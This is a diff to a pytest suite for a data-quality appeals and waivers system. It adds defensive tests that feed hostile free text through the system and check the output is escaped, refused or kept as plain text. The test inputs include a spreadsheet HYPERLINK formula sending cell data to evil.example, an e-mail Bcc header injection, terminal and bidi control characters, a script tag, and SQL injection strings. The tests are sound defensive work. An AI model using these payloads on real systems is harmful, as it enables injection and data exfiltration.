@@ -428,12 +428,8 @@ def test_free_text_is_stored_with_identifiers_masked(rt):
     assert list_appeals(ch)[0]["reason"] == appeal["text"]
 
 
-def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
-    from expectations.publish.feedback import collect
-    from expectations.publish.report import write_reports
-
-    ch = rt.ch
-    _city(ch, dates=(D,))
+def _uploaded(ch):
+    """A's file of D as ingestion records it (the e-mail is then feedback, not a reminder)."""
     ch.insert(
         "dq.ingest_file",
         [[A, OV, D, "v.csv", "x", 1, at(D, 1), "csv", "utf-8", "loaded", "", 1, 1, 0, 1]],
@@ -455,6 +451,15 @@ def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
             "batch_version",
         ],
     )
+
+
+def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
+    from expectations.publish.feedback import collect
+    from expectations.publish.report import write_reports
+
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    _uploaded(ch)
     approved = appeal_a(ch, reason="walk-ins <b>no id</b>")
     decide(
         ch,
@@ -482,3 +487,139 @@ def test_pages_and_e_mails_show_the_waived_result_and_the_appeals(rt, tmp_path):
     card = page[page.index("申诉与豁免") :]
     assert approved["appeal_id"] in card and "walk-ins &lt;b&gt;no id&lt;/b&gt;" in card
     assert "本日所有规则均已通过" in page
+
+
+NOW3 = at(D + dt.timedelta(days=3))
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/"&A1)\r\nBcc: all@wjw.example.cn\n\x1b[2J'
+    "\u202e<script>alert(1)</script>\u2028—申诉"
+)
+
+
+def test_hostile_free_text_stays_text_everywhere_and_huge_text_is_refused(rt, tmp_path):
+    """A reason with a formula, a header, terminal and bidi controls, HTML and line breaks is
+    stored as given (masked) and shown as text: one line in the plain-text e-mail, escaped in
+    HTML; a reason or comment longer than contracts/appeals.yaml allows is refused."""
+    from email import message_from_bytes, policy
+
+    from expectations.publish.feedback import collect, compose
+    from expectations.publish.report import write_reports
+
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    _uploaded(ch)
+    limit = CONFIG.text.max_chars
+    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
+        appeal_a(ch, reason="长" * (limit + 1))
+    appeal = appeal_a(ch, reason=HOSTILE)
+    with pytest.raises(AppealRefused, match=f"the comment is longer than {limit} characters"):
+        decide(ch, CONFIG, appeal["appeal_id"], "approved", "x" * (limit + 1), OFFICER, NOW3)
+    with pytest.raises(AppealRefused, match=f"the reason is longer than {limit} characters"):
+        add_waiver(
+            ch,
+            REGISTRY,
+            CONFIG,
+            RULES,
+            "required",
+            D,
+            D,
+            "x" * (limit + 1),
+            OFFICER,
+            NOW3,
+            org_code=A,
+        )
+    assert events(ch)[1] == []
+    decide(ch, CONFIG, appeal["appeal_id"], "approved", HOSTILE, OFFICER, NOW3)
+    rescore(ch, REGISTRY, D, D)
+    [fb] = collect(ch, REGISTRY, D, [A], reports_dir=tmp_path)
+    msg = message_from_bytes(compose(fb, "qc@wjw.example.cn").as_bytes(), policy=policy.default)
+    assert msg["Bcc"] is None and "Bcc" not in msg
+    text = msg.get_body(("plain",)).get_content()
+    html = msg.get_body(("html",)).get_content()
+    assert "<script>" not in html and "&lt;script&gt;" in html
+    lines = [line for line in text.splitlines() if "HYPERLINK" in line]
+    assert lines and all("\x1b" not in x and "\u202e" not in x for x in lines)
+    assert not any(line.startswith("Bcc:") for line in text.splitlines())
+    page = write_reports(ch, REGISTRY, D, tmp_path)["orgs"][A].read_text(encoding="utf-8")
+    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_another_organisations_result_an_older_run_or_batch_version_is_not_waived(rt):
+    """Hostile codes (case, blanks) name no result of the appellant; an approval waives the
+    batch version it was of, not the next upload's failure; a result the current run passes
+    is not appealed, whatever an older run said."""
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    for kwargs, message in [
+        (dict(of=B.lower()), f"may appeal only its own results: this result is {B.lower()}'s"),
+        (dict(of=f" {B}"), "may appeal only its own results"),
+        (dict(of=f"{A} "), "may appeal only its own results"),
+        (dict(org=A.lower(), of=A.lower()), f"{A.lower()} is not an organisation"),
+        (dict(org=f"{A}\u200b"), "is not an organisation"),
+        # values are bound parameters: a quote is part of a rule id that names nothing
+        (dict(rule=f"{OV}.x' OR '1'='1"), "no result outpatient_visit.x' OR '1'='1"),
+    ]:
+        with pytest.raises(AppealRefused, match=message):
+            appeal_a(ch, **kwargs)
+    first = appeal_a(ch)
+    assert list_appeals(ch, org_code="' OR 1=1 --") == [] == list_waivers(ch, org_code="'--")
+    decide(ch, CONFIG, first["appeal_id"], "approved", "ok", OFFICER, NOW3)
+    rescore(ch, REGISTRY, D, D)
+    assert scores(ch, D)[A]["composite"] == 100.0
+    # A uploads again (batch version 2), validated by run r9: the same rule fails again
+    again = [
+        res(o, OV, D, rule, "completeness", w, status, run="r9", version=2 if o == A else 1)
+        for o, (p, f) in WEIGHTS.items()
+        for rule, w, status in ((PASSED_RULE, p, "passed"), (FAILED_RULE, f, "failed"))
+    ]
+    write_results(ch, again)
+    complete(ch, D, "r9", minute=30)
+    score_date(ch, REGISTRY, D, exemptions=load_exemptions(ch))
+    assert scores(ch, D)[A]["composite"] == 70.0  # version 1's approval is not version 2's
+    second = appeal_a(ch, now=NOW3 + dt.timedelta(hours=1))
+    assert (second["batch_version"], second["run_id"]) == (2, "r9")
+    # run r10 passes it: nothing to appeal, whatever r9 said
+    write_results(
+        ch, [res(A, OV, D, FAILED_RULE, "completeness", 3, "passed", run="r10", version=2)]
+    )
+    complete(ch, D, "r10", minute=40)
+    with pytest.raises(AppealRefused, match=r"is passed, not failed"):
+        appeal_a(ch, now=NOW3 + dt.timedelta(hours=2))
+
+
+@pytest.mark.parametrize("name", [" qc.wang", "QC.WANG", "qc.wang\u200b", "ｑｃ.wang", "qc.wanq"])
+def test_a_variant_of_an_officers_name_decides_and_waives_nothing(rt, name):
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    appeal = appeal_a(ch)
+    with pytest.raises(AppealRefused, match="may not decide appeals"):
+        decide(ch, CONFIG, appeal["appeal_id"], "approved", "ok", name, NOW3)
+    with pytest.raises(AppealRefused, match="may not waive rules"):
+        add_waiver(ch, REGISTRY, CONFIG, RULES, "required", D, D, "r", name, NOW3, org_code=A)
+    assert list_appeals(ch)[0]["status"] == "open" and events(ch)[1] == []
+
+
+def test_a_result_a_waiver_covers_is_not_appealed_and_a_rejection_may_be_appealed_again(rt):
+    ch = rt.ch
+    _city(ch, dates=(D,))
+    rejected = appeal_a(ch)
+    decide(ch, CONFIG, rejected["appeal_id"], "rejected", "no", OFFICER, NOW3)
+    again = appeal_a(ch, now=NOW3 + dt.timedelta(minutes=1))  # a new reason, a new record
+    assert again["appeal_id"] != rejected["appeal_id"]
+    waiver = add_waiver(
+        ch,
+        REGISTRY,
+        CONFIG,
+        RULES,
+        "required",
+        D,
+        D,
+        "outage",
+        OFFICER,
+        NOW3,
+        peer_group="tertiary",
+    )
+    with pytest.raises(AppealRefused, match=f"already waived \\({waiver['waiver_id']}\\)"):
+        appeal_a(ch, now=NOW3 + dt.timedelta(minutes=2))
+    with pytest.raises(AppealRefused, match=f"already waived \\({waiver['waiver_id']}\\)"):
+        appeal_a(ch, org=B, now=NOW3 + dt.timedelta(minutes=2))
